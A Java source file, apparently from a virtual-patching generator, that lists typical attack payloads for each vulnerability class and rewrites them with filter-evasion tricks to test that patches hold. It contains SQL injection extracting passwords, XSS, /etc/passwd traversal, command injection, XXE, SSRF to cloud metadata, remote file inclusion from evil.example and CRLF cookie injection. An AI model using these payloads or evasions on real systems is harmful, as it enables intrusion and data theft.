package dev.vpatch.patches.generator;

import dev.vpatch.patches.vulns.VulnClass;
import java.util.List;

/** Typical attacks of each class (beyond the reported PoC) and the class's own obfuscation trick. */
final class ClassPayloads {
  private ClassPayloads() {}

  static List<String> typical(VulnClass vulnClass) {
    switch (vulnClass) {
      case SQLI:
        return List.of("1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "1; DROP TABLE users");
      case XSS:
        return List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>");
      case PATH_TRAVERSAL:
        return List.of("../../../../etc/passwd", "..\\..\\windows\\win.ini");
      case RFI:
        return List.of("http://evil.example/shell.txt?", "php://filter/convert.base64-encode/resource=index");
      case COMMAND_INJECTION:
        return List.of("127.0.0.1; cat /etc/passwd", "x | id", "$(whoami)");
      case CODE_INJECTION:
        return List.of("phpinfo()", "system('id')", "${7*7}");
      case XXE:
        return List.of("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>");
      case SSRF:
        return List.of("http://127.0.0.1:8080/admin", "http://169.254.169.254/latest/meta-data/", "gopher://localhost:25/");
      case OPEN_REDIRECT:
        return List.of("https://evil.example/", "//evil.example/");
      case CRLF:
        return List.of("x\r\nSet-Cookie: session=evil", "x\nLocation: https://evil.example/");
      case LDAP_INJECTION:
        return List.of("*)(uid=*))(|(uid=*", "admin)(|(password=*)");
      case XPATH_INJECTION:
        return List.of("' or '1'='1", "x' or name()='username' or 'x'='y");
      case SSTI:
        return List.of("{{7*7}}", "${7*7}", "<%= 7*7 %>");
      case BUFFER_OVERFLOW:
        return List.of("A".repeat(ClassSignatures.MAX_LENGTH + 1));
      default:
        return List.of();
    }
  }

  /** The payload rewritten with the class's whitespace/comment trick; null when the class has none. */
  static String obfuscated(VulnClass vulnClass, String payload) {
    switch (vulnClass) {
      case SQLI:
        return payload.replace(" ", "/**/");
      case XSS:
        return payload.replace("<script>", "<script\t>").replace(" ", "\n").replace("<img ", "<img/");
      case COMMAND_INJECTION:
        return payload.replace(" ", "${IFS}");
      case PATH_TRAVERSAL:
        return payload.replace("../", "..//").replace("..\\", "..\\\\");
      case CODE_INJECTION:
      case SSTI:
        return payload.replace(" ", "\t").replace("(", " (");
      default:
        return payload.contains(" ") ? payload.replace(" ", "\t") : null;
    }
  }
}
